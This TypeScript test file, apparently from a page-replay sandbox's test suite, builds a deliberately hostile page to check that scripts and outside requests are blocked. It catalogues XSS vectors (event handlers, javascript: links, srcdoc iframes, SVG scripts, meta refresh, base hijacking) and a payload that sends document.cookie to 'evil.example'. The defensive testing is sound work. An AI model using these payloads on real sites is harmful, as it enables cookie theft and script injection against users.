import type { stage } from './stage';
// @ts-expect-error plain JavaScript
import { document as recorded, h } from '../mock/shop.mjs';

/** All that was asked of anybody but the server itself and the site's own domain; what the policy stopped has asked nobody. */
export function watch(at: ReturnType<typeof stage>): string[] {
  const asked: string[] = [];
  const own = (url: URL): boolean => url.origin === at.origin() || url.protocol === 'data:' || url.hostname === 'paahto.example';
  at.page.on('request', (request) => {
    if (!own(new URL(request.url()))) asked.push(request.url());
  });
  at.page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') asked.splice(asked.indexOf(request.url()), 1);
  });
  at.page.on('dialog', (dialog) => {
    asked.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  at.page.on('popup', (popup) => asked.push(`popup: ${popup.url()}`));
  return asked;
}

/** What the browser says of what it refuses; frames without scripts refuse that of the browser's driver too. */
export const REFUSED = /violates the following Content Security Policy|Blocked script execution in 'about:blank'|Failed to load|ERR_/;

/** Whatever runs says so on the window that it runs in, or on the one around it. */
export const RUN = "top.hacked=(top.hacked||0)+1;window.hacked=1;fetch('https://evil.example/'+document.cookie)";
export const EVIL = 'https://evil.example';

/** A page that tries whatever a page may try. */
export function hostile() {
  return recorded(
    'Hostile',
    `@import url(${EVIL}/import.css); body { background: url(${EVIL}/css.png); } @font-face { font-family: x; src: url(${EVIL}/x.woff2); } h1 { font-family: x; cursor: url(${EVIL}/c.cur), auto; } li::before { content: url(${EVIL}/content.png); }`,
    [
      h('h1', { onclick: RUN, onmouseover: RUN, style: `background:url(${EVIL}/style.png);list-style:url("javascript:${RUN}")` }, 'Hostile'),
      h('script', {}, RUN),
      h('script', { src: `${EVIL}/x.js` }),
      h('noscript', {}, h('img', { src: `${EVIL}/noscript.png` })),
      h('img', { src: `${EVIL}/image.png`, onerror: RUN, onload: RUN, srcset: `${EVIL}/2x.png 2x`, rr_width: '200px', rr_height: 90, alt: 'Far' }),
      h('img', { src: 'x:y', onerror: RUN }),
      h('picture', {}, h('source', { srcset: `${EVIL}/source.png` }), h('img', { src: 'https://paahto.example/own.png', width: '40', height: '40' })),
      h('a', { href: `javascript:${RUN}`, ping: `${EVIL}/ping`, target: '_top' }, 'Script'),
      h('a', { href: `  java\nscript:${RUN}` }, 'Broken word'),
      h('a', { href: `${EVIL}/away`, target: '_top', id: 'away' }, 'Away'),
      h('a', { href: `${EVIL}/file`, download: '' }, 'Load'),
      h('iframe', { src: `javascript:${RUN}`, srcdoc: `<script>${RUN}</script><img src=${EVIL}/srcdoc.png>`, rr_width: '100px', rr_height: '80px' }),
      h('iframe', { src: `${EVIL}/frame` }),
      ...Array.from({ length: 60 }, () => h('iframe', { srcdoc: `<script>${RUN}</script>` })),
      h('object', { data: `${EVIL}/object`, type: 'text/html' }),
      h('embed', { src: `${EVIL}/embed` }),
      h('video', { src: `${EVIL}/v.mp4`, autoplay: '', poster: `${EVIL}/poster.png`, rr_mediaState: 'played', onplay: RUN }),
      h('audio', { src: `${EVIL}/a.mp3`, autoplay: '', rr_mediaState: 'played' }),
      h('form', { action: `${EVIL}/form`, method: 'post', id: 'form' }, h('input', { name: 'q', autofocus: '', onfocus: RUN, value: 'x' }), h('button', { formaction: `${EVIL}/button`, type: 'submit' }, 'Send')),
      h('svg', { width: '80', height: '80', onload: RUN }, h('script', {}, RUN), h('foreignobject', { width: '80', height: '80' }, h('iframe', { srcdoc: `<script>${RUN}</script>` })), h('use', { href: `${EVIL}/sprite.svg#a` }), h('image', { href: `${EVIL}/svg.png`, width: '10', height: '10' }), h('animate', { onbegin: RUN, attributeName: 'x', dur: '1s' }), h('set', { attributeName: 'href', to: `javascript:${RUN}` })),
      h('marquee', { onstart: RUN }, 'Run'),
      h('details', { open: '', ontoggle: RUN }, h('summary', {}, 'More')),
      h('body', { onload: RUN }, 'Body in a body'),
      h('custom-thing', { is: 'x-y' }, 'Custom'),
      { type: 2, id: 70_001, tagName: 'annotation-xml', isCustom: true, attributes: {}, childNodes: [] },
      { type: 2, id: 70_002, tagName: 'bad<name', attributes: {}, childNodes: [] },
      { type: 2, id: 70_003, tagName: 'DIV', attributes: { 'x"y': '1', 'a=b': '2', onCLICK: RUN }, childNodes: [{ type: 4, id: 1, textContent: 'cdata' }, { type: 3, id: 2, textContent: null }, null, 7, { type: 99 }] },
      { type: 2, id: 70_004, tagName: 'p', attributes: null, childNodes: 'no list' },
    ],
    [
      h('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/refresh` }),
      h('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' }),
      h('base', { href: `${EVIL}/`, target: '_top' }),
      h('link', { rel: 'stylesheet', href: `${EVIL}/gone.css` }),
      h('link', { rel: 'prefetch', href: `${EVIL}/prefetch` }),
      h('link', { rel: 'preload', as: 'image', href: `${EVIL}/preload.png` }),
      h('link', { rel: 'modulepreload', href: `${EVIL}/module.js` }),
      h('link', { rel: 'icon', href: `${EVIL}/icon.png` }),
      h('link', { rel: 'dns-prefetch', href: EVIL }),
      h('style', {}, `p { background: url(${EVIL}/late.png) }`),
    ],
  );
}
